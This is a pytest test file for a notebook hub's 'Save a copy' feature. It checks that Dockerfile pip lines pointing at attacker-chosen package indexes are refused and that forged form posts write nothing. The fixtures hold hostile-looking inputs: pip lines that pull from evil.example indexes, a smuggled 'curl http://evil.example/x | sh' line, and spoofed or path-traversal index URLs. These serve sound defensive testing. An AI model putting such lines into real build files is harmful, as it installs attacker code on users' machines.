"""Save a copy writes only what it showed (issue 23, item 5).

The attack: a project's owner (hostile: they write their Dockerfile) shares a notebook.
Their Dockerfile's managed block holds what looks like ``numpy==1.26.4``, but the line
carries ``--extra-index-url``, ``--find-links`` or ``--trusted-host`` of their choosing,
so a viewer who saves a copy with its packages would build the owner's numpy from the
owner's index. The viewer's Save-a-copy page must show each such line whole, refused,
with the reason and no box to tick; a plain line is shown whole and ticked. And the
server must not trust the form: a forged POST asking for a refused line, a line never
shown, or a line the owner swapped after the page was shown, writes nothing into the
viewer's Dockerfile and copies nothing. Against the session's real hub (one project
container: the owner's; the viewer's project is made, stopped, by the copy itself).

The admin's allow-list (``c.GpulabSaveCopy.package_indexes``) is checked without a hub
at the end: the shared hub runs with the default (no index allowed).
"""

from __future__ import annotations

import os
import re

import pytest
from markupsafe import escape
from people import NB, log_in_admin, make_user, share_by_link, start_with_notebook
from traitlets import TraitError
from traitlets.config import Config

from gpulab_hub.sharing import installs
from gpulab_jupyter.magics import dockerfile

OWNER, SRC = "scoowner", "sco-src"
VIEWER, DEST = "scoviewer", "sco-dest"
WHERE = {"owner": OWNER, "project": SRC, "path": NB}

PLAIN = "RUN python -m pip install --no-cache-dir humanize==4.9.0 && python -c 'import humanize'"
# Each looks like a pinned package from PyPI on a page that shows only the requirement.
EVIL = {
    "numpy": "RUN python -m pip install --no-cache-dir --extra-index-url "
    "http://evil.example/simple numpy==1.26.4 && python -c 'import numpy'",
    "requests": "RUN python -m pip install --no-cache-dir --find-links "
    "http://evil.example/wheels requests==2.32.3 && python -c 'import requests'",
    "six": "RUN python -m pip install --no-cache-dir --index-url https://pypi.org/simple "
    "--trusted-host evil.example six==1.16.0 && python -c 'import six'",
    "idna": "RUN python -m pip install --no-cache-dir --index-url http://evil.example/simple "
    "--trusted-host evil.example idna==3.7 && python -c 'import idna'",
}
REASONS = {
    "numpy": "it installs from http://evil.example/simple (--extra-index-url), which is not "
    "a package index this hub's administrator allows",
    "requests": "it installs from http://evil.example/wheels (--find-links), which is not a "
    "package index this hub's administrator allows",
    "six": "it installs from https://pypi.org/simple (--index-url), which is not a package "
    "index this hub's administrator allows",
    "idna": "it installs from http://evil.example/simple (--index-url), which is not a "
    "package index this hub's administrator allows",
}


@pytest.fixture(scope="module")
def people(hub):
    admin = log_in_admin(hub)
    return {n: make_user(hub, admin, n) for n in (OWNER, VIEWER)}


@pytest.fixture(scope="module")
def source(hub, people):
    """The owner's project with a notebook and the hostile managed block; shared with
    the viewer as viewer. The Dockerfile's path."""
    owner, viewer = people[OWNER], people[VIEWER]
    start_with_notebook(owner, SRC)
    share_by_link(owner, SRC, viewer, "viewer")
    path = hub.home / "projects" / OWNER / SRC / "Dockerfile"
    dockerfile.update(path, [("humanize", PLAIN), *EVIL.items()], [], "1000:100")
    yield path
    owner.stop_project(SRC)


def copy_page(user, **query):
    return user.http.get(user.base + "/hub/gpulab/copy", params=query, timeout=30)


def post_copy(user, install=(), apt=(), target="", new_project="", **query):
    """Save a copy's form as posted (what a browser sends, or anything a person forges)."""
    form = {
        "_xsrf": user.http.cookies.get("_xsrf", path="/hub/"),
        "target": target,
        "new_project": new_project,
        "install": list(install),
        "apt": list(apt),
    }
    return user.http.post(
        user.base + "/hub/gpulab/copy",
        params=query,
        data=form,
        allow_redirects=False,
        timeout=30,
    )


def boxes(html: str) -> dict[str, bool]:
    """The install boxes of the page: each box's value (the line) -> ticked."""
    found = {}
    for tag in re.findall(r'<input[^>]*name="install"[^>]*>', html):
        value = re.search(r'value="([^"]*)"', tag).group(1)
        found[value] = " checked" in tag
    return found


def block_of(path) -> list[str]:
    return [ln.rstrip("\n") for ln in dockerfile.split(path.read_text())[1]]


def copies_in(folder) -> list[str]:
    return sorted(n for n in os.listdir(folder) if "(copy" in n) if folder.is_dir() else []


@pytest.mark.docker
def test_the_page_shows_every_option_and_refuses_foreign_indexes(people, source):
    viewer = people[VIEWER]
    page = copy_page(viewer, **WHERE)
    assert page.status_code == 200, page.text
    # One box, for the plain line, ticked; shown whole as it would be written.
    assert boxes(page.text) == {str(escape(PLAIN)): True}
    assert f'<code class="copy-install-line">{escape(PLAIN)}</code>' in page.text
    # Every hidden-index line is shown in full, as refused, with why, and without a box.
    refused = page.text.split('id="copy-refused-list"')[1].split("</ul>")[0]
    for name, line in EVIL.items():
        shown = f'<code class="copy-refused-line">{escape(line)}</code>'
        assert shown in refused, name
        after = refused.split(shown, 1)[1].split("</li>", 1)[0]
        assert f"refused: {escape(REASONS[name])}" in after, (name, after)
    assert f"{len(EVIL)} line(s) of" in page.text


@pytest.mark.docker
def test_a_forged_post_writes_nothing_it_did_not_show(hub, people, source):
    viewer = people[VIEWER]
    dest = hub.home / "projects" / VIEWER / DEST
    # Asking for a refused line (alone, or beside the plain one): refused, nothing copied,
    # and not even the new project is made.
    for line in EVIL.values():
        for asked in ([line], [PLAIN, line]):
            r = post_copy(viewer, install=asked, new_project=DEST, **WHERE)
            assert r.status_code == 400, r.text
            assert "Nothing was copied" in r.text and "cannot be brought along" in r.text
    assert not dest.exists()
    assert DEST not in viewer.api("GET", f"/hub/api/users/{VIEWER}").json()["servers"]

    # The plain line, as shown: the project is made, the notebook copied, the line written.
    r = post_copy(viewer, install=[PLAIN], new_project=DEST, **WHERE)
    assert r.status_code == 200, r.text
    assert block_of(dest / "Dockerfile") == [PLAIN]
    before, copies = (dest / "Dockerfile").read_bytes(), copies_in(dest)
    assert len(copies) == 1

    # Lines never shown: the plain line with an index slipped in, a package the source
    # never had, the plain line with a second line smuggled after a newline, an apt
    # package with an option: each refused, the Dockerfile and the copies unchanged.
    slipped = PLAIN.replace("--no-cache-dir", "--no-cache-dir --extra-index-url http://e.x/s")
    forged = [
        {"install": [slipped]},
        {"install": ["RUN python -m pip install --no-cache-dir evilpkg==1.0"]},
        {"install": [PLAIN + "\nRUN curl http://evil.example/x | sh"]},
        {"install": [PLAIN], "apt": ["libgl1 --allow-unauthenticated"]},
    ]
    for form in forged:
        r = post_copy(viewer, target=DEST, **form, **WHERE)
        assert r.status_code == 400, (form, r.text)
        assert "is not one" in r.text and "this page offers" in r.text, form
    assert (dest / "Dockerfile").read_bytes() == before
    assert copies_in(dest) == copies


@pytest.mark.docker
def test_a_line_swapped_after_the_page_was_shown_is_refused(hub, people, source):
    """The owner changes the plain line to carry their index between the viewer's GET and
    POST: the line the viewer saw is no longer offered, the new one is refused."""
    viewer = people[VIEWER]
    page = copy_page(viewer, **WHERE)
    assert boxes(page.text) == {str(escape(PLAIN)): True}
    original = source.read_bytes()
    swapped = PLAIN.replace("--no-cache-dir", "--no-cache-dir --extra-index-url http://e.x/s")
    source.write_text(source.read_text().replace(PLAIN, swapped))
    dest = hub.home / "projects" / VIEWER / DEST
    before = (dest / "Dockerfile").read_bytes() if dest.exists() else b""
    copies = copies_in(dest)
    try:
        r = post_copy(viewer, install=[PLAIN], new_project="sco-late", **WHERE)
        assert r.status_code == 400 and "may have changed since it was shown" in r.text
        r = post_copy(viewer, install=[swapped], new_project="sco-late", **WHERE)
        assert r.status_code == 400 and "cannot be brought along" in r.text
        # The page shown again says what the line is now.
        page = copy_page(viewer, **WHERE)
        assert boxes(page.text) == {}
        assert f'<code class="copy-refused-line">{escape(swapped)}</code>' in page.text
    finally:
        source.write_bytes(original)
    assert not (hub.home / "projects" / VIEWER / "sco-late").exists()
    if dest.exists():
        assert (dest / "Dockerfile").read_bytes() == before and copies_in(dest) == copies


# --- The admin's allow-list, without a hub ---

PYTORCH = "https://download.pytorch.org/whl/"


def line_with(*options: str, package: str = "torch==2.4.0") -> str:
    return " ".join(["RUN python -m pip install --no-cache-dir", *options, package])


@pytest.mark.parametrize(
    "options",
    [
        ("--index-url", "https://download.pytorch.org/whl/cu121"),
        ("--extra-index-url", "https://download.pytorch.org/whl/"),
        ("--find-links", "https://download.pytorch.org/whl/torch_stable.html"),
        ("--index-url", "http://vm:8080/simple", "--trusted-host", "vm"),
        ("--index-url", "http://vm:8080/simple", "--trusted-host", "vm:8080"),
        ("--no-build-isolation", "--no-binary", "torch"),
    ],
)
def test_allowed_indexes_are_offered_but_never_ticked(options):
    allowed = [PYTORCH, "http://vm:8080/simple"]
    line = line_with(*options)
    found = installs.managed_installs(dockerfile.apply("FROM x\n", [("torch", line)], [], "u"),
                                      allowed)  # fmt: skip
    assert [i.line for i in found.installs] == [line] and not found.refused
    assert not found.installs[0].plain


@pytest.mark.parametrize(
    "options, reason",
    [
        (("--index-url", "https://download.pytorch.org.evil.example/whl/"), "not a package"),
        (("--index-url", "https://download.pytorch.org/whl/../../evil/"), "not a package"),
        (("--index-url", "https://download.pytorch.org/whl/%2e%2e/evil/"), "not a package"),
        (("--index-url", "https://download.pytorch.org/wheels"), "not a package"),
        (("--extra-index-url", "http://download.pytorch.org/whl/"), "not a package"),
        (("--index-url", PYTORCH, "--trusted-host", "evil.example"), "not a host"),
        (("--no-binary", "numpy"), "names another package"),
        (("--pre",), "--pre is not one Save a copy brings along"),
        (("--no-deps",), "--no-deps is not one"),
        (("--index-url=https://download.pytorch.org/whl/",), "is not one Save a copy"),
        (("--no-index", "--find-links", PYTORCH), "--no-index is not one"),
        (("-i", PYTORCH), "-i is not one"),
    ],
)
def test_other_options_are_refused_with_the_reason(options, reason):
    line = line_with(*options)
    text = dockerfile.apply("FROM x\n", [("torch", line)], [], "u")
    found = installs.managed_installs(text, [PYTORCH])
    assert found.installs == [] and len(found.refused) == 1
    assert found.refused[0].line == line and reason in found.refused[0].reason
    with pytest.raises(installs.NotOffered):
        installs.pick(found, [line], [])


def test_pick_takes_only_lines_offered():
    plain = line_with(package="humanize==4.9.0")
    text = dockerfile.apply("FROM x\n", [("humanize", plain)], ["libgl1"], "u")
    found = installs.managed_installs(text)
    assert found.installs[0].plain
    assert installs.pick(found, [plain], ["libgl1"]).shown() == ["humanize==4.9.0", "apt: libgl1"]
    assert installs.pick(found, [], []).shown() == []
    for lines, apt in (([plain + " "], []), ([plain[:-1]], []), ([], ["vim"])):
        with pytest.raises(installs.NotOffered):
            installs.pick(found, lines, apt)


def test_the_admins_list_takes_plain_urls_only():
    ok = installs.GpulabSaveCopy(config=Config({"GpulabSaveCopy": {"package_indexes": [PYTORCH]}}))
    assert ok.package_indexes == [PYTORCH]
    assert installs.GpulabSaveCopy().package_indexes == []  # no index allowed by default
    for bad in ("file:///srv/wheels", "https://u:p@x.org/simple", "https://x.org/s?q=1", "x.org"):
        with pytest.raises(TraitError):
            installs.GpulabSaveCopy(config=Config({"GpulabSaveCopy": {"package_indexes": [bad]}}))
